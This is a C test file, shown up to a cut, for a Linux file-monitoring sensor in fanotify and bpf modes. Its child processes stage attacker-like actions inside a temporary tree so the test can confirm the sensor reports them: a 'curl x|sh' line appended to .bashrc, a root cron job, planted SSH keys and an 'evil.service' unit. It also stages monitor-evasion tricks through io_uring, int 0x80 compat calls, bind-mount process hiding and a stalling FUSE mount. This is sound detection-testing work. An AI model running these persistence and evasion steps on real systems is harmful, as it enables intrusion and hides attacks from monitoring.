/* file family, mode fanotify or bpf (argv[1]): under a temp root with its own etc/, home/u/
 * and tmp/, a child creates, writes, renames, chmods and unlinks files; each
 * action in a watched path gives the exact event, nothing outside does, and
 * only executables are reported in the x: folder; a child that works with
 * relative paths and exits before the module reads is reported with whole
 * paths. Trees made after the start (~/.ssh of an account that had none,
 * made again after its removal) are watched too. Links and symbolic links
 * made in watched folders are reported, and so is what a child does through
 * an io_uring ring (no system call of its own): create, rename, unlink,
 * link and symlink, the bpf mode marking them IoUring, and an operation
 * that fails reported by neither mode. */
#include "../i80.h"
#include "famtest.h"
#include "family_file_fanotify.h"
#ifdef YM_FAMILY_BPF
#include "family_file_bpf.h"
#endif

#include <errno.h>
#include <limits.h>
#include <fcntl.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static struct ft t;
static char root[] = "/tmp/ym-fan-XXXXXX";

static const char *P(const char *rel)
{
	static char b[8][512];
	static int i;

	i = (i + 1) % 8;
	snprintf(b[i], sizeof(b[i]), "%s/%s", root, rel);
	return b[i];
}

static void put(const char *rel, const char *text, int flags, mode_t mode)
{
	int fd = open(P(rel), O_WRONLY | O_CREAT | flags, mode);

	if (fd < 0 || write(fd, text, strlen(text)) != (ssize_t)strlen(text) || close(fd) != 0)
		_exit(10);
}

/* an io_uring operation on paths under root: op, the first path (addr),
 * the second (addr2, or NULL), fd and len as the operation reads them
 * (dirfds), op_flags (open flags, rename/unlink/link flags), and the SQE's
 * flags; the child exits 30 + n when it fails, with its result */
static int uring_path(int op, const char *a, const char *b, int fd, int len, __u32 opf, __u64 mode,
		      __u8 sqef)
{
	struct io_uring_sqe q;
	int res = -1;

	memset(&q, 0, sizeof(q));
	q.opcode = (__u8)op;
	q.fd = fd;
	q.addr = (__u64)(uintptr_t)a;
	q.addr2 = (__u64)(uintptr_t)b;
	q.len = (__u32)len;
	q.open_flags = opf; /* a union: rename_flags, unlink_flags, hardlink_flags */
	if (op == IORING_OP_OPENAT)
		q.len = (__u32)mode;
	q.flags = sqef;
	if (ft_uring(&q, &res) != 0)
		return -1000;
	return res;
}

static int rep[2] = {-1, -1};
static pid_t last = -1;
/* a home the test made in /home: removed at exit if a check failed */
static char late_home[64];

static void late_home_rm(void)
{
	char cmd[128];

	if (late_home[0] != '\0') {
		snprintf(cmd, sizeof(cmd), "rm -rf '%s'", late_home);
		if (system(cmd) != 0)
			fprintf(stderr, "cannot remove %s\n", late_home);
	}
}

static void late_home_set(const char *home)
{
	static int once;

	if (!once && atexit(late_home_rm) == 0)
		once = 1;
	snprintf(late_home, sizeof(late_home), "%s", home ? home : "");
}

/* The child acts, reports, and stays alive (as a real writer would while the
 * agent reads /proc) until the next step. */
static pid_t act(int step)
{
	pid_t p = ft_fork();
	char ok = 0;

	if (p != 0)
		return p;
	switch (step) {
	case 1:
		put("etc/cron.d/job", "* * * * * root id\n", O_EXCL, 0644);
		break;
	case 2:
		if (rename(P("etc/cron.d/job"), P("etc/cron.d/job2")) != 0)
			_exit(11);
		break;
	case 3:
		if (chmod(P("etc/cron.d/job2"), 0600) != 0)
			_exit(12);
		break;
	case 4:
		if (unlink(P("etc/cron.d/job2")) != 0)
			_exit(13);
		break;
	case 5:
		put("home/u/.bashrc", "curl x|sh\n", O_APPEND, 0644);
		put("home/u/notes", "not watched\n", 0, 0644);
		put("other/x", "not watched\n", 0, 0644);
		put("tmp/data", "plain\n", 0, 0644);
		break;
	case 6:
		put("tmp/implant", "#!/bin/sh\n", 0, 0644);
		if (chmod(P("tmp/implant"), 0755) != 0)
			_exit(14);
		break;
	case 7:
		if (mkdir(P("etc/newdir"), 0755) != 0)
			_exit(15);
		break;
	case 8:
		put("etc/newdir/conf", "x\n", 0, 0644);
		put("home/u/.ssh/authorized_keys", "ssh-ed25519 AAAA\n", 0, 0600);
		break;
	case 9:
		put("etc/shed", "x\n", 0, 0644);
		break;
	case 10:
		put("etc/cron.d/before", "x\n", 0, 0644);
		break;
	case 11:
		put("etc/cron.d/after", "x\n", 0, 0644);
		break;
	case 12:
		if (mkdir(P("home/v/.ssh"), 0700) != 0)
			_exit(16);
		break;
	case 13:
		put("home/v/.ssh/authorized_keys", "ssh-ed25519 BBBB\n", 0, 0600);
		break;
	case 14:
		/* as mkdir -p and a write right after: before any mark */
		if (mkdir(P("home/v/.config"), 0755) != 0 ||
		    mkdir(P("home/v/.config/systemd"), 0755) != 0 ||
		    mkdir(P("home/v/.config/other"), 0755) != 0)
			_exit(17);
		put("home/v/.config/systemd/evil.service", "[Service]\n", 0, 0644);
		put("home/v/.config/other/x", "not watched\n", 0, 0644);
		break;
	case 15:
		/* ~/.ssh removed and made again: another folder of that name */
		if (unlink(P("home/v/.ssh/authorized_keys")) != 0 || rmdir(P("home/v/.ssh")) != 0 ||
		    mkdir(P("home/v/.ssh"), 0700) != 0)
			_exit(18);
		break;
	case 16:
		put("home/v/.ssh/authorized_keys2", "ssh-ed25519 CCCC\n", 0, 0600);
		break;
	case 17:
		/* a watched folder renamed, in the tree, then out of it */
		if (rename(P("etc/newdir"), P("etc/moved")) != 0)
			_exit(19);
		break;
	case 18:
		put("etc/moved/conf2", "x\n", 0, 0644);
		break;
	case 19:
		if (rename(P("etc/moved"), P("other/moved")) != 0)
			_exit(21);
		break;
	case 20:
		put("other/moved/conf3", "x\n", 0, 0644);
		break;
	case 21:
		put("etc/cron.d/away", "* * * * * root id\n", 0, 0644);
		break;
	case 22:
		/* a watched file moved out of the watched folders */
		if (rename(P("etc/cron.d/away"), P("other/away")) != 0)
			_exit(22);
		break;
	case 23:
		/* links made in watched folders: a symbolic one to a file
		 * elsewhere, a hard one of a file elsewhere */
		if (symlink("/tmp/ym-nowhere/job", P("etc/cron.d/sl")) != 0 ||
		    link(P("other/away"), P("home/u/.ssh/hl")) != 0)
			_exit(23);
		break;
	case 24: {
		/* through io_uring: create, rename, unlink; a create that
		 * fails (O_EXCL on a file that exists) */
		int fd = uring_path(IORING_OP_OPENAT, P("etc/cron.d/ur"), NULL, AT_FDCWD, 0,
				    O_WRONLY | O_CREAT | O_EXCL, 0644, 0);

		if (fd < 0)
			_exit(fd == -1000 ? 31 : 32);
		close(fd);
		if (uring_path(IORING_OP_RENAMEAT, P("etc/cron.d/ur"), P("etc/cron.d/ur2"),
			       AT_FDCWD, AT_FDCWD, 0, 0, 0) != 0 ||
		    uring_path(IORING_OP_OPENAT, P("etc/cron.d/ur2"), NULL, AT_FDCWD, 0,
			       O_WRONLY | O_CREAT | O_EXCL, 0644, 0) != -EEXIST ||
		    uring_path(IORING_OP_UNLINKAT, P("etc/cron.d/ur2"), NULL, AT_FDCWD, 0, 0, 0,
			       0) != 0)
			_exit(33);
		break;
	}
	case 25: {
		/* through io_uring: a symbolic link (relative to a folder's
		 * descriptor), a hard link, and a create with no completion
		 * on success (IOSQE_CQE_SKIP_SUCCESS) */
		int dfd = open(P("etc/cron.d"), O_RDONLY | O_DIRECTORY), fd;

		if (dfd < 0 ||
		    uring_path(IORING_OP_SYMLINKAT, "../../other/away", "usl", dfd, 0, 0, 0, 0) !=
			0 ||
		    uring_path(IORING_OP_LINKAT, P("other/away"), P("home/u/.ssh/uhl"), AT_FDCWD,
			       AT_FDCWD, 0, 0, 0) != 0)
			_exit(34);
		fd = uring_path(IORING_OP_OPENAT, P("etc/cron.d/skip"), NULL, AT_FDCWD, 0,
				O_WRONLY | O_CREAT, 0600, IOSQE_CQE_SKIP_SUCCESS);
		if (fd != 0 || access(P("etc/cron.d/skip"), F_OK) != 0)
			_exit(35);
		close(dfd);
		break;
	}
	case 26: {
		/* chmod and chown through a descriptor (fchmod, fchown) of a
		 * file in a watched folder, and of one outside */
		int fd = open(P("etc/cron.d/fd"), O_WRONLY | O_CREAT, 0644),
		    fo = open(P("other/fd"), O_WRONLY | O_CREAT, 0644);

		if (fd < 0 || fo < 0 || fchmod(fd, 0640) != 0 || fchown(fd, 0, 0) != 0 ||
		    fchmod(fo, 0640) != 0)
			_exit(36);
		close(fd);
		close(fo);
		break;
	}
	case 27: {
		/* a file dated on purpose: both times by path (utimensat), the
		 * modification time alone through a descriptor (futimens),
		 * then a plain touch (times NULL: now), which is no news */
		struct timespec both[2] = {{1551675967, 0},
					   {1551675967, 0}}; /* 2019-03-04T05:06:07Z */
		struct timespec m[2] = {{0, UTIME_OMIT},
					{1577934245, 0}}; /* 2020-01-02T03:04:05Z */
		int fd = open(P("etc/cron.d/old"), O_WRONLY | O_CREAT, 0644);

		if (fd < 0 || utimensat(AT_FDCWD, P("etc/cron.d/old"), both, 0) != 0 ||
		    futimens(fd, m) != 0 || utimensat(AT_FDCWD, P("etc/cron.d/old"), NULL, 0) != 0)
			_exit(37);
		close(fd);
		break;
	}
	case 28:
		/* truncate by path (no open), in a watched folder and outside */
		if (truncate(P("etc/cron.d/fd"), 3) != 0 || truncate(P("other/fd"), 0) != 0)
			_exit(38);
		break;
	case 29: {
		/* a file mounted over a watched one (mount(2) MS_BIND), and
		 * over another with the new mount API (open_tree, move_mount);
		 * then both undone */
		int tfd;

		if (mount(P("other/away"), P("etc/cron.d/old"), NULL, MS_BIND, NULL) != 0)
			_exit(39);
		if (umount2(P("etc/cron.d/old"), MNT_DETACH) != 0)
			_exit(40);
		tfd = (int)syscall(SYS_open_tree, AT_FDCWD, P("other/away"),
				   OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC);
		if (tfd < 0)
			_exit(41);
		if (syscall(SYS_move_mount, tfd, "", AT_FDCWD, P("etc/cron.d/fd"),
			    MOVE_MOUNT_F_EMPTY_PATH) != 0)
			_exit(42);
		close(tfd);
		if (umount2(P("etc/cron.d/fd"), MNT_DETACH) != 0)
			_exit(43);
		break;
	}
	case 31:
	case 32:
	case 33: {
		/* a new home, its ~/.ssh, a key in it (late_home) */
		char pth[128];
		int fd;

		if (step == 31 && mkdir(late_home, 0755) != 0)
			_exit(46);
		snprintf(pth, sizeof(pth), "%s/.ssh", late_home);
		if (step == 32 && mkdir(pth, 0700) != 0)
			_exit(47);
		snprintf(pth, sizeof(pth), "%s/.ssh/authorized_keys", late_home);
		if (step == 33 && ((fd = open(pth, O_WRONLY | O_CREAT, 0600)) < 0 ||
				   write(fd, "ssh-ed25519 DDDD\n", 17) != 17 || close(fd) != 0))
			_exit(48);
		break;
	}
	case 34: {
		/* a "d:" tree (logs): an append (not reported), a file cut by
		 * O_TRUNC, one cut by creat() (O_CREAT: there before), a new
		 * one made with O_TRUNC (not reported: nothing lost), then cut
		 * by truncate(2); one deleted, one moved out */
		int fd;

		put("log/app.log", "appended\n", O_APPEND, 0644);
		if ((fd = open(P("log/app.log"), O_WRONLY | O_TRUNC)) < 0 || close(fd) != 0 ||
		    (fd = creat(P("log/cut.log"), 0644)) < 0 || close(fd) != 0 ||
		    (fd = open(P("log/new.log"), O_WRONLY | O_CREAT | O_TRUNC, 0644)) < 0 ||
		    close(fd) != 0 || truncate(P("log/new.log"), 0) != 0 ||
		    unlink(P("log/old.log")) != 0 ||
		    rename(P("log/moved.log"), P("other/moved.log")) != 0)
			_exit(49);
		break;
	}
	case 35:
	case 36: {
		/* an "r:" file read (step 36: after it was replaced), then one
		 * opened with O_PATH and one not watched for reads */
		int fd;
		char c;

		if ((fd = open(P("etc/secret"), O_RDONLY)) < 0 || read(fd, &c, 1) != 1 ||
		    close(fd) != 0)
			_exit(50);
		if (step == 35 &&
		    ((fd = open(P("etc/secret"), O_PATH)) < 0 || close(fd) != 0 ||
		     (fd = open(P("home/u/.bashrc"), O_RDONLY)) < 0 || close(fd) != 0))
			_exit(51);
		break;
	}
	case 37: {
		/* through io_uring: the "r:" file opened for reading (a
		 * descriptor; a fixed-file slot the kernel picks; a slot
		 * chosen, with no completion on success), one not watched
		 * for reads; in the "d:" tree a log cut by O_TRUNC,
		 * one only opened for writing, one made with O_TRUNC */
		int fd = uring_path(IORING_OP_OPENAT, P("etc/secret"), NULL, AT_FDCWD, 0, O_RDONLY,
				    0, 0);
		struct io_uring_sqe q;
		int res = -1;

		if (fd < 0)
			_exit(52);
		close(fd);
		memset(&q, 0, sizeof(q));
		q.opcode = IORING_OP_OPENAT;
		q.fd = AT_FDCWD;
		q.addr = (__u64)(uintptr_t)P("etc/secret");
		q.open_flags = O_RDONLY;
		q.file_index = IORING_FILE_INDEX_ALLOC;
		if (ft_uring(&q, &res) != 0 || res < 0)
			_exit(53);
		/* into slot 0 with no completion on success (the process
		 * knows where it is): named the long way round, and another
		 * file the same way */
		q.file_index = 1;
		q.flags = IOSQE_CQE_SKIP_SUCCESS;
		q.addr = (__u64)(uintptr_t)P("etc/../etc/secret");
		if (ft_uring(&q, &res) != 0 || res != 0)
			_exit(56);
		q.addr = (__u64)(uintptr_t)P("home/u/.bashrc");
		if (ft_uring(&q, &res) != 0 || res != 0)
			_exit(57);
		if ((fd = uring_path(IORING_OP_OPENAT, P("home/u/.bashrc"), NULL, AT_FDCWD, 0,
				     O_RDONLY, 0, 0)) < 0 ||
		    close(fd) != 0)
			_exit(54);
		put("log/ut.log", "one\n", 0, 0644);
		if ((fd = uring_path(IORING_OP_OPENAT, P("log/ut.log"), NULL, AT_FDCWD, 0,
				     O_WRONLY | O_TRUNC, 0, 0)) < 0 ||
		    close(fd) != 0 ||
		    (fd = uring_path(IORING_OP_OPENAT, P("log/ut.log"), NULL, AT_FDCWD, 0, O_WRONLY,
				     0, 0)) < 0 ||
		    close(fd) != 0 ||
		    (fd = uring_path(IORING_OP_OPENAT, P("log/un.log"), NULL, AT_FDCWD, 0,
				     O_WRONLY | O_CREAT | O_TRUNC, 0644, 0)) < 0 ||
		    close(fd) != 0)
			_exit(55);
		break;
	}
	case 38:
	case 39: {
		/* watched files named another way: through ".." and through
		 * a symbolic link to a watched folder (absolute, relative;
		 * step 39 through a ring), a rename through "..", a bind
		 * mount; a write through a link to a folder that is not
		 * watched */
		int fd;

		if (symlink(P("etc/cron.d"), P("other/lnk")) != 0 ||
		    symlink(P("other"), P("other/lnk2")) != 0 || chdir(P("other")) != 0)
			_exit(60);
		if (step == 39) {
			if ((fd = uring_path(IORING_OP_OPENAT, P("other/lnk/dd4"), NULL, AT_FDCWD,
					     0, O_WRONLY | O_CREAT, 0644, 0)) < 0 ||
			    close(fd) != 0 ||
			    (fd = uring_path(IORING_OP_OPENAT, "lnk2/dd7", NULL, AT_FDCWD, 0,
					     O_WRONLY | O_CREAT, 0644, 0)) < 0 ||
			    close(fd) != 0)
				_exit(61);
		} else {
			put("other/../etc/cron.d/dd1", "x\n", 0, 0644);
			put("other/lnk/dd2", "x\n", 0, 0644);
			if ((fd = open("lnk/dd3", O_WRONLY | O_CREAT, 0644)) < 0 || close(fd) != 0)
				_exit(62);
			put("other/lnk2/dd6", "x\n", 0, 0644);
			put("other/y", "x\n", 0, 0644);
			if (rename(P("other/y"), P("other/../etc/cron.d/dd5")) != 0)
				_exit(63);
			/* a link in a watched folder to a file in another,
			 * where only executables count: the written name */
			if (symlink(P("tmp/outfile"), P("etc/cron.d/lout")) != 0)
				_exit(66);
			put("etc/cron.d/lout", "x\n", 0, 0644);
		}
		if (unlink(P("other/lnk")) != 0 || unlink(P("other/lnk2")) != 0)
			_exit(64);
		/* through a bind mount of the watched folder, in a mount
		 * namespace of its own (as a container given the host's
		 * /etc) */
		if (step == 38) {
			if (mkdir(P("other/bm"), 0755) != 0 || unshare(CLONE_NEWNS) != 0 ||
			    mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) != 0 ||
			    mount(P("etc/cron.d"), P("other/bm"), NULL, MS_BIND, NULL) != 0)
				_exit(65);
			put("other/bm/dd8", "x\n", 0, 0644);
		}
		break;
	}
	case 41:
		/* an executable dropped in the x: folder and removed at once
		 * (as a dropper does after running it): gone before the
		 * module reads the record */
		put("tmp/quick", "#!/bin/sh\n", 0, 0755);
		if (unlink(P("tmp/quick")) != 0)
			_exit(67);
		break;
	case 40:
		/* in a folder watched through a symbolic link: by the
		 * link's name and by the folder's own */
		put("alias/a1", "x\n", 0, 0644);
		put("real/a2", "x\n", 0, 0644);
		break;
	case 30:
		/* the same in a mount namespace of its own (as a container or a
		 * sandboxed service would): left there, gone with the process */
		if (unshare(CLONE_NEWNS) != 0 ||
		    mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) != 0 ||
		    mount(P("other/away"), P("etc/cron.d/old"), NULL, MS_BIND | MS_RDONLY, NULL) !=
			0)
			_exit(44);
		/* outside the watched paths: a folder over /proc/PID (the
		 * process hidden), a file system whose source is a device
		 * path (reported), and a plain tmpfs (not) */
		{
			char pp[32];

			snprintf(pp, sizeof(pp), "/proc/%d", (int)getpid());
			if (mount(P("other"), pp, NULL, MS_BIND, NULL) != 0 ||
			    mkdir(P("other/mnt"), 0755) != 0 ||
			    mount("/dev/ym-disk", P("other/mnt"), "tmpfs", 0, NULL) != 0 ||
			    umount2(P("other/mnt"), 0) != 0 ||
			    mount("ym-tmp", P("other/mnt"), "tmpfs", MS_NOSUID, NULL) != 0)
				_exit(45);
		}
		break;
	}
	if (write(rep[1], &ok, 1) != 1)
		_exit(20);
	pause();
	_exit(0);
}

/* A short-lived child, as rm -r is: calls relative to a directory
 * descriptor and to its cwd, then exits; the caller reaps it before the
 * module reads anything, so /proc can no longer tell the folders. */
static void relative_then_exit(void)
{
	pid_t p = ft_fork();
	int st, dfd, fd;

	if (p == 0) {
		dfd = open(P("etc/cron.d"), O_RDONLY | O_DIRECTORY);
		if (dfd < 0)
			_exit(30);
		fd = openat(dfd, "rel1", O_CREAT | O_WRONLY, 0644);
		if (fd < 0 || close(fd) != 0 || unlinkat(dfd, "rel1", 0) != 0)
			_exit(31);
		if (chdir(P("home/u/.ssh")) != 0)
			_exit(32);
		fd = creat("rel2", 0600);
		if (fd < 0 || close(fd) != 0 || rename("rel2", "./rel3") != 0)
			_exit(33);
		_exit(0);
	}
	FT_CHECK(p > 0 && waitpid(p, &st, 0) == p && WIFEXITED(st) && WEXITSTATUS(st) == 0);
}

static void reap(void)
{
	if (last > 0) {
		kill(last, SIGKILL);
		waitpid(last, NULL, 0);
	}
	last = -1;
}

static char *run(int step, char *pid)
{
	pid_t p;
	char ok = 1;

	reap();
	if (rep[0] < 0)
		FT_CHECK(pipe(rep) == 0);
	p = act(step);
	/* the child reports, or exits with the code of what failed (this
	 * process holds the pipe's write end too: a read would wait for ever) */
	for (int ms = 0;; ms += 50) {
		struct pollfd pf = {.fd = rep[0], .events = POLLIN};
		int st;

		if (poll(&pf, 1, 50) == 1)
			break;
		if (waitpid(p, &st, WNOHANG) == p) {
			fprintf(stderr,
				"FAIL step %d: the child exited (status %d) before it reported\n",
				step, WIFEXITED(st) ? WEXITSTATUS(st) : -1);
			exit(1);
		}
		FT_CHECK(ms < 10000);
	}
	FT_CHECK(read(rep[0], &ok, 1) == 1 && ok == 0);
	last = p;
	snprintf(pid, 16, "%d", (int)p);
	return pid;
}

/* Step mk makes a folder, and once the module had time to see it, step
 * put writes rel in it: reported as created, by its process. */
static void made_then_written(int mk, int put, const char *rel)
{
	char pid[16];
	const struct ft_event *e;

	run(mk, pid);
	ft_pump(&t, 300);
	run(put, pid);
	e = ft_wait(&t, 3000, "TargetFilename", P(rel), "Action", "create", NULL);
	FT_CHECK(e != NULL);
	ft_expect(e, "ProcessId", pid);
}

/* Calls made as 32-bit (compat) system calls, int 0x80 from a 64-bit
 * process, as an attacker would to pass monitors that watch only the
 * 64-bit table: a file made in a watched folder, chmod, renamed,
 * truncated (truncate64: the length in two registers) and removed, each
 * reported as the 64-bit call would be (bpf: the compat program;
 * fanotify: the folders' marks see any call). Skipped where the kernel
 * has no IA32 emulation (ENOSYS). x86-64 only. */
static void compat_step(int bpf)
{
#if defined(__x86_64__)
	const struct ft_event *e;
	char pid[16];
	int st;
	pid_t p = ft_fork();

	if (p == 0) {
		char *m = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
			       MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
		long r;

		if (m == MAP_FAILED)
			_exit(68);
		snprintf(m, 1024, "%s", P("etc/cron.d/c32"));
		snprintf(m + 1024, 1024, "%s", P("etc/cron.d/c32b"));
		r = i80(5, (unsigned long)m, O_CREAT | O_WRONLY, 0644); /* open */
		if (r == -ENOSYS)
			_exit(69);
		if (r < 0 || close((int)r) != 0)
			_exit(70);
		if (i80(15, (unsigned long)m, 0600, 0) != 0 ||			    /* chmod */
		    i80(38, (unsigned long)m, (unsigned long)(m + 1024), 0) != 0 || /* rename */
		    i80(193, (unsigned long)(m + 1024), 0, 0) != 0 ||		    /* truncate64 */
		    i80(10, (unsigned long)(m + 1024), 0, 0) != 0)		    /* unlink */
			_exit(71);
		_exit(0);
	}
	FT_CHECK(p > 0 && waitpid(p, &st, 0) == p && WIFEXITED(st));
	if (WEXITSTATUS(st) == 69) {
		printf("skip: no IA32 emulation in this kernel: the compat step\n");
		return;
	}
	FT_CHECK(WEXITSTATUS(st) == 0);
	snprintf(pid, sizeof(pid), "%d", (int)p);
	e = ft_wait(&t, 3000, "TargetFilename", P("etc/cron.d/c32"), "Action", "create", NULL);
	FT_CHECK(e != NULL);
	ft_expect(e, "ProcessId", pid);
	if (bpf) /* int 0x80 from 64-bit code (fanotify cannot tell) */
		ft_expect(e, "SyscallAbi", "int80");
	e = ft_wait(&t, 3000, "TargetFilename", P("etc/cron.d/c32"), "Action",
		    bpf ? "chmod" : "attrib", NULL);
	FT_CHECK(e != NULL);
	if (bpf)
		ft_expect(e, "Mode", "0600");
	e = ft_wait(&t, 3000, "TargetFilename", P("etc/cron.d/c32b"), "Action", "rename", NULL);
	FT_CHECK(e != NULL);
	ft_expect(e, "SourceFilename", P("etc/cron.d/c32"));
	if (bpf)
		FT_CHECK(ft_wait(&t, 3000, "TargetFilename", P("etc/cron.d/c32b"), "Action",
				 "write", "Size", "0", NULL) != NULL);
	e = ft_wait(&t, 3000, "TargetFilename", P("etc/cron.d/c32b"), "Action", "unlink", NULL);
	FT_CHECK(e != NULL);
	ft_expect(e, "ProcessId", pid);
#else
	(void)bpf;
#endif
}

/* A file system that does not answer the module's calls (fsjob.h): a FUSE
 * mount made on a new folder in the x: folder, whose daemon answers only
 * its own program (ym-fuse-hold, built next to this test), as a user's
 * can. The module reads the folder's making (fanotify: probes, marks and
 * lists it) or the mount (bpf: the x: check's lstat of its target) after
 * the mount, so the call is held; the bound lets it go on: a file written
 * next is reported at once, and (bpf) the mount is reported as the file
 * whose look was held. The daemon's end frees the held worker. Skipped
 * where there is no FUSE. */
static void fuse_hold_step(int bpf)
{
	char self[PATH_MAX], hold[PATH_MAX + 16], line[64] = "", *slash;
	struct fsjob_stats fs;
	const struct ft_event *e;
	int out[2], fp = 0, mounted = 0, st;
	ssize_t n, k;
	pid_t d, dmn;

	n = readlink("/proc/self/exe", self, sizeof(self) - 1);
	FT_CHECK(n > 0);
	self[n] = '\0';
	slash = strrchr(self, '/');
	FT_CHECK(slash != NULL);
	*slash = '\0';
	snprintf(hold, sizeof(hold), "%s/ym-fuse-hold", self);
	if (access(hold, X_OK) != 0 || access("/dev/fuse", R_OK | W_OK) != 0) {
		printf("skip: no FUSE here (/dev/fuse, %s): the held-call step\n", hold);
		return;
	}
	/* the test's own actions are the agent's, never reported: a child's */
	d = ft_fork();
	if (d == 0)
		_exit(mkdir(P("tmp/fz"), 0755) == 0 ? 0 : 1);
	FT_CHECK(d > 0 && waitpid(d, &st, 0) == d && WIFEXITED(st) && WEXITSTATUS(st) == 0);
	FT_CHECK(pipe(out) == 0);
	dmn = d = ft_fork();
	if (d == 0) {
		dup2(out[1], 1);
		execl(hold, hold, P("tmp/fz"), "/bin/sleep", "30", "ymfz", (char *)NULL);
		_exit(127);
	}
	close(out[1]);
	for (n = 0; n < (ssize_t)sizeof(line) - 1 && strchr(line, '\n') == NULL; n += k) {
		k = read(out[0], line + n, sizeof(line) - 1 - (size_t)n);
		if (k <= 0)
			break;
		line[n + k] = '\0';
	}
	close(out[0]);
	FT_CHECK(sscanf(line, "pid %d", &fp) == 1 && fp > 0);
	/* mounted: the mount table says so (a stat would be held) */
	for (int i = 0; i < 60 && !mounted; i++) {
		FILE *m = fopen("/proc/self/mountinfo", "r");
		char l[1024];

		while (m != NULL && fgets(l, sizeof(l), m) != NULL)
			if (strstr(l, P("tmp/fz")) != NULL)
				mounted = 1;
		if (m != NULL)
			fclose(m);
		if (!mounted)
			usleep(50000);
	}
	FT_CHECK(mounted);
	ft_pump(&t, 800);
	fsjob_stats(t.env.fsj, &fs);
	FT_CHECK(fs.stalls >= 1 && fs.stuck >= 1);
	d = ft_fork();
	if (d == 0) {
		put("tmp/fz-after", "#!/bin/sh\n", 0, 0755);
		_exit(0);
	}
	FT_CHECK(d > 0 && waitpid(d, &st, 0) == d && WIFEXITED(st) && WEXITSTATUS(st) == 0);
	e = ft_wait(&t, 3000, "TargetFilename", P("tmp/fz-after"), "Action", "create", NULL);
	FT_CHECK(e != NULL);
	if (bpf) {
		struct fsjob_stats b4;

		FT_CHECK(ft_wait(&t, 3000, "TargetFilename", P("tmp/fz"), "Action", "mount",
				 NULL) != NULL);
		/* the tick's identity checks of the watched folders: a home's
		 * ~/.ssh made a link into the held file system holds them
		 * (once: that call site is skipped while held), not the
		 * module */
		fsjob_stats(t.env.fsj, &b4);
		d = ft_fork();
		if (d == 0)
			_exit(rename(P("home/u/.ssh"), P("home/u/.ssh-away")) == 0 &&
				      symlink(P("tmp/fz"), P("home/u/.ssh")) == 0
				  ? 0
				  : 1);
		FT_CHECK(d > 0 && waitpid(d, &st, 0) == d && WIFEXITED(st) && WEXITSTATUS(st) == 0);
		/* two ticks at least: the first held, the next refused */
		ft_pump(&t, 3200);
		fsjob_stats(t.env.fsj, &fs);
		FT_CHECK(fs.stalls == b4.stalls + 1 && fs.refused > b4.refused);
		d = ft_fork();
		if (d == 0) {
			put("etc/cron.d/fz-tick", "x\n", 0, 0644);
			_exit(unlink(P("home/u/.ssh")) == 0 &&
				      rename(P("home/u/.ssh-away"), P("home/u/.ssh")) == 0
				  ? 0
				  : 1);
		}
		FT_CHECK(d > 0 && waitpid(d, &st, 0) == d && WIFEXITED(st) && WEXITSTATUS(st) == 0);
		FT_CHECK(ft_wait(&t, 3000, "TargetFilename", P("etc/cron.d/fz-tick"), "Action",
				 "create", NULL) != NULL);
	}
	/* the daemon's end fails the held call: its worker ends */
	kill(fp, SIGKILL);
	kill(dmn, SIGKILL);
	FT_CHECK(waitpid(dmn, NULL, 0) == dmn);
	umount2(P("tmp/fz"), MNT_DETACH);
	for (int i = 0; i < 100; i++) {
		fsjob_stats(t.env.fsj, &fs);
		if (fs.stuck == 0)
			break;
		usleep(20000);
	}
	FT_CHECK(fs.stuck == 0 && fs.freed >= 1);
	FT_CHECK(rmdir(P("tmp/fz")) == 0);
}

int main(int argc, char **argv)
{
	const struct family_ops *ops = &family_file_fanotify_ops;
	/* what each mode can tell (docs/sensors.md): fanotify sees FAN_ATTRIB
	 * and a close after writing; bpf sees the chmod and the O_CREAT flag */
	int reads = argc > 1 && strcmp(argv[1], "bpf_reads") == 0;
	int bpf = reads || (argc > 1 && strcmp(argv[1], "bpf") == 0);
	int uring = 0; /* io_uring rings can be made here */
	const char *chmod_action = bpf ? "chmod" : "attrib";
	char pid[16];
	const char *watch[11];
	char w1[512], w2[512], w3[512], w4[512], w5[512], w6[512], w7[512], w8[512], w9[512];
	const struct ft_event *e;
	const char *img = ft_self_image();
	uint64_t t0, t1;

	FT_CHECK(mkdtemp(root) != NULL);
	FT_CHECK(mkdir(P("etc"), 0755) == 0 && mkdir(P("etc/cron.d"), 0755) == 0);
	FT_CHECK(mkdir(P("home"), 0755) == 0 && mkdir(P("home/u"), 0755) == 0);
	FT_CHECK(mkdir(P("home/u/.ssh"), 0700) == 0 && mkdir(P("tmp"), 01777) == 0);
	FT_CHECK(mkdir(P("other"), 0755) == 0 && mkdir(P("home/v"), 0755) == 0);
	{
		int fd = open(P("home/u/.bashrc"), O_CREAT | O_WRONLY, 0644);
		FT_CHECK(fd >= 0 && close(fd) == 0);
	}
	snprintf(w1, sizeof(w1), "%s/etc/", root);
	snprintf(w2, sizeof(w2), "%s/home/u/.ssh/", root);
	snprintf(w3, sizeof(w3), "%s/home/u/.bashrc", root);
	snprintf(w4, sizeof(w4), "x:%s/tmp/", root);
	watch[0] = w1;
	watch[1] = w2;
	watch[2] = w3;
	/* trees of a home that has neither folder yet */
	snprintf(w5, sizeof(w5), "%s/home/v/.ssh/", root);
	snprintf(w6, sizeof(w6), "%s/home/v/.config/systemd/", root);
	watch[3] = w4;
	watch[4] = w5;
	watch[5] = w6;
	/* a home entry: a home made after the start is watched too */
	watch[6] = "~/.ssh/";
	/* logs: only what loses content */
	snprintf(w7, sizeof(w7), "d:%s/log/", root);
	watch[7] = w7;
	/* a file's reads (bpf only) */
	snprintf(w8, sizeof(w8), "r:%s/etc/secret", root);
	watch[8] = w8;
	/* a folder watched by a name through a symbolic link */
	FT_CHECK(mkdir(P("real"), 0755) == 0 && symlink(P("real"), P("alias")) == 0);
	snprintf(w9, sizeof(w9), "%s/alias/", root);
	watch[9] = w9;
	watch[10] = NULL;
	put("etc/secret", "hash\n", 0, 0600);
	FT_CHECK(mkdir(P("log"), 0755) == 0);
	put("log/app.log", "one\n", 0, 0644);
	put("log/cut.log", "one\n", 0, 0644);
	put("log/old.log", "one\n", 0, 0644);
	put("log/moved.log", "one\n", 0, 0644);
	if (bpf) {
#ifdef YM_FAMILY_BPF
		ops = &family_file_bpf_ops;
